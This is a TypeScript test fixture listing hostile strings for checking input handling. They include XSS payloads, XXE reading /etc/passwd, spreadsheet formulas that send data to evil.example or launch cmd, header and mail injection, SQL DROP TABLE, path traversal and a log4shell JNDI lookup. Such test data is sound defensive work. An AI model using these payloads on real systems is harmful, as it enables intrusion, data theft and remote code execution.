/*
 * Names and titles that try to do more than be read: run in a page, end their element, header, cell or field, or
 * reverse the surrounding text. Each is 6 to 120 characters, so that any field accepts it. Code that runs in a page
 * calls `__hit`.
 */

/** Texts that a page might run, or take for markup. */
export const markupTexts = [
  `<script>__hit(1)</script>`,
  `</title></textarea></style><script>__hit(2)</script>`,
  `"><img src=x onerror=__hit(3)>`,
  `' autofocus onfocus='__hit(4)`,
  `<svg/onload=__hit(5)>`,
  `<svg><animate onbegin=__hit(6) attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.__hit(7)</script>">`,
  `<details open ontoggle=__hit(8)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=__hit(9)>`,
  `<noscript><p title="</noscript><img src=x onerror=__hit(10)>">`,
  `<template><script>__hit(11)</script></template>`,
  `<!--><img src=x onerror=__hit(12)>-->`,
  `<a href="javascript:__hit(13)">press</a>`,
  `javascript:__hit(14)//`,
  `data:text/html,<script>__hit(15)</script>`,
  `[press](javascript:__hit(16)) ![x](x"onerror="__hit(16))`,
  `{{constructor.constructor('__hit(17)')()}}`,
  '${__hit(18)} #{__hit(18)} <%= __hit(18) %>',
  `&lt;script&gt;__hit(19)&lt;/script&gt; &#60;b&#62;`,
  `\\x3cscript\\x3e__hit(20) \\u003cscript\\u003e`,
  `<base href="https://evil.example/"><link rel=stylesheet href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
] as const;

/** Texts that XML, a spreadsheet, a header or a database might interpret. */
export const otherTexts = [
  `]]></title><item><title>x</title></item><![CDATA[`,
  `<![CDATA[x]]> ]]>`,
  `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;`,
  `&a; &amp;amp; &#x0; & <?xml version="1.0"?>`,
  `=HYPERLINK("https://evil.example?"&A1,"press")`,
  `=cmd|' /C calc'!A0`,
  `+1+1;=1+1`,
  `-2+3,"=1+1"`,
  `@SUM(1+1)*cmd|'x'!A0`,
  `＝1+1 ＋1 －1 ＠x`,
  `x\r\nSet-Cookie: a=b\r\n\r\n<script>__hit(30)</script>`,
  `x\nBcc: everybody@evil.example\n.\n`,
  `x\tName=y\vz\u0085w\u2028v\u2029u`,
  `x';StreamUrl='https://evil.example/';`,
  `x\r\nFile2=http://evil.example/\r\n#EXTINF:-1,y\r\nhttp://evil.example/`,
  `evil\u202Egnp.exe \u2066x\u2069 \u200Fy\u200B`,
  `\u0001\u0007\u001B[31mred\u001B[0m \uFFFE\uFFFF`,
  `'; DROP TABLE stations; -- " \\' %00 %0d%0a`,
  `../../../../etc/passwd %2e%2e%2f ..\\..\\x`,
  `%s%n%x \${jndi:ldap://evil.example/a}`,
  `__proto__ constructor toString`,
  `\u{1F469}\u200D\u{1F4BB} e\u0301\u0323 \u1160\uFDFD ﷺ`,
] as const;

export const hostileTexts: readonly string[] = [...markupTexts, ...otherTexts];

/** Texts that no field can store: PostgreSQL can't, or no encoding has them. */
export const impossibleTexts = ['null\0byte', 'half \uD83D', '\uDC00 half'] as const;
